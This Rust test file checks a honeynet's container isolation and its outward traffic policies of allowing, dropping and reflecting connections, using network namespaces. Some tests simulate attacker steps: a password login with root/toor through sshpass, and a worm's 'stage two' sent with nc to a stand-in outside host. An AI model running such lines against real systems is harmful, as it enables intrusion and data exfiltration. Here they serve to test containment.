//! What containers get to see, and how far they get.

use crate::lab::Lab;
use crate::net::{Ns, Running};
use crate::shell::{shell, ssh};

/// Containers on the very segment of the wire.
pub fn on_the_wire(outward: &str) -> String {
    format!(
        r#"
name: isolation
templates:
  shell:
    personality: linux
    vendor: vmware
    tcp: {{22: container}}
    backend: {{image: tools, start: on-access, idle: 10m}}
    outward: {outward}
images:
  tools: {{recipe: small, packages: [nmap, iperf3, tcpdump], users: [{{name: root, password: toor}}]}}
nodes:
  wan: {{kind: uplink}}
  core: {{kind: switch, ports: 4}}
  shells: {{kind: hosts, addresses: 192.0.2.100-192.0.2.103, template: shell, prefix: [192.0.2.0/24], gateway: [192.0.2.1]}}
links:
  - endpoints: [wan, "core:1"]
  - endpoints: [shells, "core:2"]
"#
    )
}

#[test]
fn a_container_sees_nothing_of_what_others_say_to_each_other() {
    let mut lab = Lab::shared();
    // The uplink's other side is a hub: a bridge that floods everything, and two strangers on it.
    let hub = lab.ns("hub");
    lab.attacker.sh(&["ip", "link", "del", "eth0"]);
    lab.wire_between((&hub, "uplink"), (&lab.wire, "up0"));
    hub.sh(&["ip", "link", "add", "br0", "type", "bridge", "ageing_time", "0", "mcast_snooping", "0"]);
    let strangers = [lab.ns("alice"), lab.ns("bob")];
    for (ns, (name, address)) in [
        (&lab.attacker, ("mallory", "192.0.2.2/24")),
        (&strangers[0], ("alice", "192.0.2.11/24")),
        (&strangers[1], ("bob", "192.0.2.12/24")),
    ] {
        lab.wire_between((&hub, name), (ns, "eth0"));
        ns.addr("eth0", address);
        hub.sh(&["ip", "link", "set", name, "master", "br0"]);
    }
    hub.sh(&["ip", "link", "set", "uplink", "master", "br0"]);
    hub.sh(&["ip", "link", "set", "br0", "up"]);
    lab.start(&on_the_wire("allow"));
    let watch = |interface: &'static str, ns: &Ns| {
        let mut tcpdump = ns.spawn(&["tcpdump", "-i", interface, "-n", "-e", "-l", "--immediate-mode"]);
        tcpdump.wait_line("listening on");
        tcpdump
    };
    // Of what the honeynet takes from its own end, nobody there hears.
    let uplink = watch("uplink", &hub);
    let login = ["sshpass", "-p", "toor", "ssh", "-T", "-o", "StrictHostKeyChecking=no", "-o"];
    let command = "tcpdump -Z root -i eth0 -n -e -l --immediate-mode not port 22";
    let mut inside =
        lab.attacker.spawn(&[&login[..], &["UserKnownHostsFile=/dev/null", "root@192.0.2.100", command]].concat());
    inside.wait_line("listening on");
    // Strangers talk: broadcasts to find each other, then unicast of several kinds.
    let [alice, bob] = &strangers;
    alice.sh(&["ping", "-c", "50", "-i", "0.005", "-W", "2", "192.0.2.12"]);
    let mut server = bob.spawn(&["iperf3", "-s", "-1", "--forceflush"]);
    server.wait_line("Server listening");
    alice.sh(&["iperf3", "-c", "192.0.2.12", "-n", "2M"]);
    alice.sh(&["arping", "-I", "eth0", "-c", "1", "192.0.2.12"]);
    // What is meant for the container comes last, so that all before it would have been seen.
    lab.attacker.sh(&["ping", "-c", "1", "-p", "feed", "-s", "100", "-W", "2", "192.0.2.100"]);
    let mark = "192.0.2.100.33000: UDP";
    lab.attacker.sh(&["sh", "-c", "echo mark | nc -u -w 1 192.0.2.100 33000"]);
    let seen_inside = until(inside, mark);
    let seen_on_wire = until(uplink, mark);
    let of_strangers =
        |lines: &[String]| lines.iter().filter(|l| l.contains("192.0.2.11") || l.contains("192.0.2.12")).count();
    assert!(of_strangers(&seen_on_wire) > 100, "the hub floods: {}", seen_on_wire.join("\n"));
    assert_eq!(of_strangers(&seen_inside), 0, "{}", seen_inside.join("\n"));
}

/// Everything it says up to a line that contains `mark`.
fn until(mut running: Running, mark: &str) -> Vec<String> {
    running.wait_line(mark);
    running.said().to_vec()
}

/// A container with an outward policy, on the wire, and a server there that is none of its business.
pub fn with_policy(outward: &str) -> (Lab, Ns) {
    let mut lab = Lab::shared();
    lab.start(&on_the_wire(outward));
    lab.attacker.addr("eth0", "192.0.2.2/24");
    // Addresses beyond the wire that really exist.
    lab.attacker.addr("eth0", "192.0.2.1/24");
    lab.attacker.addr("lo", "198.51.100.7/32");
    let attacker = lab.attacker.clone();
    (lab, attacker)
}

const FETCH: &str = "timeout 5 wget -q -O - http://198.51.100.7:8080/ || echo failed";

pub fn server(ns: &Ns) -> Running {
    let answer = "HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nreal\n";
    // In the shell's place, so that what is killed at the end is the server itself.
    let script = format!("exec nc -n -l -p 8080 -s 198.51.100.7 -N -v <<'END'\n{answer}END\n");
    let mut server = ns.spawn(&["sh", "-c", &script]);
    server.wait_line("Listening on");
    server
}

#[test]
fn outward_allow_lets_a_container_reach_the_world() {
    let (lab, attacker) = with_policy("allow");
    let _server = server(&attacker);
    assert_eq!(shell(&attacker, "192.0.2.100", FETCH), "real\n");
    let flow = lab.wait_event("outward.flow", |event| event["dst"]["ip"] == "198.51.100.7");
    assert_eq!(flow["src"]["ip"], "192.0.2.100", "{flow}");
}

#[test]
fn outward_drop_lets_nothing_out() {
    let (lab, attacker) = with_policy("drop");
    let _server = server(&attacker);
    let mut watch = attacker.spawn(&["tcpdump", "-i", "eth0", "-n", "-l", "--immediate-mode", "not", "port", "22"]);
    watch.wait_line("listening on");
    assert_eq!(shell(&attacker, "192.0.2.100", FETCH), "failed\n");
    let ping = ssh(&attacker, "192.0.2.100", "ping -c 1 -W 1 198.51.100.7");
    assert!(!ping.status.success(), "{ping:?}");
    let dropped = lab.wait_event("outward.drop", |event| event["dst"]["ip"] == "198.51.100.7");
    assert_eq!(dropped["src"]["ip"], "192.0.2.100", "{dropped}");
    attacker.sh(&["ping", "-c", "1", "-p", "feed", "-s", "99", "-W", "2", "192.0.2.101"]);
    watch.wait_line("192.0.2.101 > 192.0.2.2: ICMP echo reply");
    let leaked: Vec<&String> = watch.said().iter().filter(|line| line.contains("198.51.100.7")).collect();
    assert!(leaked.is_empty(), "{leaked:?}");
}

#[test]
fn outward_reflect_answers_in_the_place_of_the_world() {
    let (lab, attacker) = with_policy("reflect");
    let _server = server(&attacker);
    let mut watch = attacker.spawn(&["tcpdump", "-i", "eth0", "-n", "-l", "--immediate-mode", "not", "port", "22"]);
    watch.wait_line("listening on");
    // The next stage of a worm: it connects and tells all it has; somebody listens.
    let told = shell(&attacker, "192.0.2.100", "echo stage two | nc -w 2 203.0.113.99 4711 && echo taken");
    assert_eq!(told, "taken\n");
    let ping = shell(&attacker, "192.0.2.100", "ping -c 1 -W 2 203.0.113.99");
    assert!(ping.contains("1 packets received"), "{ping}");
    let reflected = lab.wait_event("outward.reflect", |event| event["dst"]["ip"] == "203.0.113.99");
    assert_eq!(reflected["src"]["ip"], "192.0.2.100", "{reflected}");
    let data = lab.wait_event("tcp.data", |event| event["dst"]["ip"] == "203.0.113.99");
    assert_eq!(data["data"], "c3RhZ2UgdHdvCg==", "{data}");
    // The world itself hears nothing of it.
    assert_ne!(shell(&attacker, "192.0.2.100", FETCH), "real\n");
    attacker.sh(&["ping", "-c", "1", "-W", "2", "192.0.2.101"]);
    watch.wait_line("192.0.2.101 > 192.0.2.2: ICMP echo reply");
    let leaked: Vec<&String> =
        watch.said().iter().filter(|line| line.contains("203.0.113.99") || line.contains("198.51.100.7")).collect();
    assert!(leaked.is_empty(), "{leaked:?}");
}
